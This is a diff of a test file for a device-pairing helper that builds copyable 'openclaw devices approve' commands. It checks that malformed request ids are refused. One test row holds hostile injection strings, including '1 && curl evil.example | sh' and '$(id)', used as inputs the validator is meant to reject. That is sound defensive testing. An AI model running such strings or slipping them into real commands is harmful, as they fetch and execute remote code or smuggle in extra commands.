@@ -289,8 +289,8 @@ test("what calls itself a code and holds words is none", () => {
 });
 
 test("an approval and stripped scopes are told with what to run", () => {
-  expect(tellPrivately(toPairing("r1")).fix).toBe("on the gateway host run: openclaw devices approve r1");
-  expect(tellPrivately(scopesStripped()).fix).toContain("openclaw devices approve <id>");
+  expect(tellPrivately(toPairing("r1")).fix).toEqual("on the gateway host run: openclaw devices approve r1");
+  expect(english(tellPrivately(scopesStripped()).fix ?? "")).toContain("openclaw devices approve <id>");
   for (const failure of [toPairing("r1"), scopesStripped()]) expect(openWords(failure)).not.toMatch(/r1|openclaw /);
   expect(scopesStripped()).toMatchObject({ state: "refused", cause: "scopes" });
 });
@@ -299,7 +299,7 @@ test.each(["1 && curl evil.example | sh", "$(id)", "a b", "", "x".repeat(65), "a
   "nothing but an id stands in a command that people copy: %j",
   (told) => {
     expect(toPairing(told)).toMatchObject({ requestId: null });
-    expect(tellPrivately(toPairing(told)).fix).toBe(
+    expect(tellPrivately(toPairing(told)).fix).toEqual(
       "on the gateway host run: openclaw devices list, then openclaw devices approve <id>",
     );
   },
